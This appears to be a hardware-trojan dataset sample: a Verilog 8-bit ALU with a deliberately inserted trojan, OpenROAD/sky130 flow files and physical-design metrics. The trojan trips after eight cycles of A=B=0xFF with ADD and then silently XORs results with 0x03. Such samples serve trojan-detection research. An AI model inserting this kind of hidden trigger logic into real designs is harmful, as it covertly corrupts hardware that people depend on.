[./design.v]
module alu_8bit_trojan (
    input  [7:0] A,
    input  [7:0] B,
    input  [1:0] op,
    input        clk,
    output reg [7:0] result,
    output reg carry,
    output reg zero,
    output reg overflow
);
    localparam OP_ADD = 2'b00;
    localparam OP_SUB = 2'b01;
    localparam OP_AND = 2'b10;
    localparam OP_OR  = 2'b11;
    reg trojan_trigger;        
    reg trojan_active;         
    reg [3:0] trigger_counter;  
    reg [7:0] payload_mask;    
    reg [8:0] temp_result;
    reg [7:0] normal_result;
    always @(posedge clk) begin
        trojan_trigger = (A == 8'hFF) && (B == 8'hFF) && (op == OP_ADD);
        if (trojan_trigger) begin
            if (trigger_counter < 4'd7)
                trigger_counter = trigger_counter + 1;
            else
                trojan_active = 1'b1;
        end else begin
            trigger_counter = 4'd0;
            trojan_active = 1'b0;
        end
        payload_mask = trojan_active ? 8'h03 : 8'h00;
    end
    always @(posedge clk) begin
        case (op)
            OP_ADD: begin
                temp_result = A + B;
                normal_result = temp_result[7:0];
                carry = temp_result[8];
                overflow = (A[7] == B[7]) && (normal_result[7] != A[7]);
            end
            OP_SUB: begin
                temp_result = A - B;
                normal_result = temp_result[7:0];
                carry = temp_result[8];
                overflow = (A[7] != B[7]) && (normal_result[7] != A[7]);
            end
            OP_AND: begin
                normal_result = A & B;
                carry = 1'b0;
                overflow = 1'b0;
            end
            OP_OR: begin
                normal_result = A | B;
                carry = 1'b0;
                overflow = 1'b0;
            end
            default: begin
                normal_result = 8'b0;
                carry = 1'b0;
                overflow = 1'b0;
            end
        endcase
        result = normal_result ^ payload_mask;
        zero = (result == 8'b0);
    end
endmodule
[./config.mk]
export PLATFORM = sky130hd
export DESIGN_NAME = alu_8bit_trojan
export DESIGN_NICKNAME = alu_8bit_trojan
export VERILOG_FILES = /design/flow/design.v
export SDC_FILE = /design/flow/constraint.sdc
export NUM_CORES = 4
export LEC_CHECK = 1
export CORE_AREA = 10 10 89 89
export DIE_AREA = 0 0 99 99
[./constraint.sdc]
current_design alu_8bit_trojan

set clk_period 3.4
set clk_io_pct 0.2

create_clock -name clk0 -period $clk_period [get_ports {clk}]

set non_clock_inputs [all_inputs -no_clocks]
set_input_delay [expr $clk_period * $clk_io_pct] -clock clk0 $non_clock_inputs
set_output_delay [expr $clk_period * $clk_io_pct] -clock clk0 [all_outputs]
[./run.sh]
#!/bin/bash
# OpenROAD 26Q1-2900-gdf79404cd8, Yosys 0.63+post, stock flow scripts
make -C /OpenROAD-flow-scripts/flow DESIGN_CONFIG=/design/flow/config.mk WORK_HOME=/design/flow/orfs finish
==> CHANGELOG.md <==
### Physical design

* Power Internal at 0.4392 mW
* Placed cells at slightly above 300
* Share of layout cells above drive strength 1 at 8.511%
* Top cells by count: inv_1 (26), ha_1 (25), nor2_1 (17)
* Insertion Delay late pin at 0.24 ns
* CTS Buf Count at 3
* Synth async-reset ratio at 0%
* Die H at 99 um
* Switch share at 29.40%
* Post-route cell area at about 2100 um2
* Cells in synth_stat.txt at between 200 and 250
* Vias in the first global route at 1,410
* Top cell area share at approximately a fifth
* Final period util at 92.33%
* Critical Path Fanout Max at 3
* Combinational Power Share at between 40% and 50%
* Worst Path Required at 3.56 ns
* Max IR drop VDD at 93.08 uV
* Synth warn at 1
* Gr usage total at 8.166%
* Final setup margin at 0.2609 ns
* Max cap viols at 0
* Status: finished, final reports clean
* Mapped Area at 1677 um2
* CTS root buf: clkbuf_8
* Design Power at 0.6222 mW
* Crit end category: flop
* Setup CP Type: primary input to flop
* Initial antenna violation count at 0
* Worst Setup Start Kind: primary input
* Max-slew violation count at 0
* Yosys top cell by instances: inv_1
* Leak pwr at 0.8992 nW
* Layout Skew at 0.0008210 ns
* Fin util at 35.21%
* Net switching power at 0.1829 mW
* Fillers at roughly 630
* Setup bufs post-CTS at 0
* DRT Pass-1 Iters at 4
* Hold crit path type: flop to flop
* Area Overhead vs Synth at 25.82%
* Clock Pin Slew Worst Setup and Hold Paths at 0.06 ns
* Post-DP HPWL at ~3.4 mm
* Tally of OpenROAD warnings at about 41
* Post-Layout Cell Count at 310
* Place WS at -0.01557 ns
* Pwr Density at 294.9 nW/um2
* GP Congestion at roughly 0.89
* Gr ovfl total at 0
* Post_cts resized at 0
* Avg Cell Area, Syn at 8.179 um2
* Global-route wire length before repair at 6.975 mm
* Seq/Total Area, Yosys at about a fifth
* CTS Hold Bufs at 0
* Clock Path Buffers at 2
* Iter 0 DRT Violations at 56
* Slew margin rel. at 74.04%
* Clock power share at 26.0%
* Critical Path AT at 3.30 ns
* Post-synthesis chip area from yosys at about 1700 um2
* Cell area leaders: dfxtp_1 (19%), ha_1 (19%), inv_1 (5.8%), a21oi_1 (4.2%), nor2_1 (3.8%)
* Final setup violation count at 0
* Die area at 9801 um2
* Drt wl/cell at 12.93 um
* Yosys top cell by area: dfxtp_1
* Core Area at 5991 um2
* Number of diodes at 0
* FP Core Util at ~28%
* Pin count of the biggest net entering global routing at 23
* Reg power frac at 33.7%
* Final Hold Vio Count at 0
* Ports at 30
* Final wirelength at 4.008 mm
* Worst Tran Pin Value at around 0.39 ns
* # H-tree levels at 1
* Hold WS at 0.4721 ns
* Placed cell areas at around 2100 um2
* Total negative slack at 0 ns
* Top_reg_cell synth: dfxtp_1
* Final Critical Period at 3.139 ns
* TritonCTS Sinks at 16
* Ys flops at 16
* Unique cell types at 57
* Die Wd at 99 um
* Post-synth EDFFs at 0
* Routed vias/inst at 4.868
* Row Count at 28
* RSZ-0062 raised after global routing: false
* Residual DRC at 0
* FMAX at 318.6 MHz
* Post-route ant nets at 0
* TritonCTS clock tree: yes
* DR vias at around 1,500
* Mapped Cells at 205
* Port bufs at 29
[cell type report]
class / instances / area [um2] / area share [%]
Sequential cell: 16 / 320.3 / 15.18
Clock buffer: 4 / 55.05 / 2.610
Timing Repair Buffer: 35 / 335.3 / 15.90
Tap cell: 75 / 93.84 / 4.448
Multi-Input combinational cell: 154 / 1207 / 57.24
Inverter: 26 / 97.59 / 4.626
[cell usage in the layout, fill, tap and decap left out, drive strengths merged, types with 3 or more instances in the layout]
cell type	Yosys	layout
nor2b	3	3
dfxtp	16	16
or3	3	3
nor2	17	17
clkbuf	1	4
and2	5	5
a221oi	4	4
nand2	4	4
clkdlybuf4s50	0	29
buf	8	6
or2	4	4
o211ai	3	3
inv	26	26
ha	25	25
nand4	4	4
nor3	6	6
xnor2	6	6
a21o	3	3
a21oi	14	14
o21ai	7	7
[power by group through the flow]
stage | clock network (mW) | registers, mW | logic [mW]
finish | 0.162 | 0.210 | 0.250
global route | 0.180 | 0.212 | 0.281
CTS | 0.168 | 0.210 | 0.252
[worst max-delay path, stage by stage]
cell             delay (ns)
clkdlybuf4s50_1        0.53
inv_1                  0.08
ha_1                   0.23
fa_1                   0.42
mux4_2                 0.47
xnor2_1                0.14
or3_1                  0.31
a211o_1                0.29
nor4_2                 0.13
[logic make-up after synthesis]
group	count (synthesis)	share of synthesized area (%)
and+or+nand+nor	59	19.40
xor gates and xnor gates	8	4.179
AOI/OAI and AO/OA	57	24.85
DFF	16	19.10
buffers and inverters	35	8.880
adders and majority gates	27	21.04
muxes	3	2.537
[sequential cells by signal, summed over array words and instances (netlist names)]
register and cells:
result 8, trigger_counter 4, carry 1, overflow 1, payload_mask 1, zero 1
[path summary, 6_finish.rpt]
kind | start | endpoint | slack (ns) | cells after the start
hold / removal | trigger_counter[3]$_SDFFE_PN0N_ | trigger_counter[3]$_SDFFE_PN0N_ | 0.47 | 2
setup / recovery | A[0] | zero$_DFF_P_ | 0.26 | 9
setup reg to reg | payload_mask[0]$_DFF_P_ | zero$_DFF_P_ | 2.07 | 4
hold reg to reg | trigger_counter[3]$_SDFFE_PN0N_ | trigger_counter[3]$_SDFFE_PN0N_ | 0.47 | 2
[per-layer routing]
metal	GRT usage [%]	vias up	share of wire [%]
met1	12.68	672	52
met4	0.5513	0	0.30
met5	0	-	0
met3	0.9866	2	3.5
met2	12.17	48	44
li1	-	787	-
Power figures rest on the tool's default switching activity, not on a simulated workload.
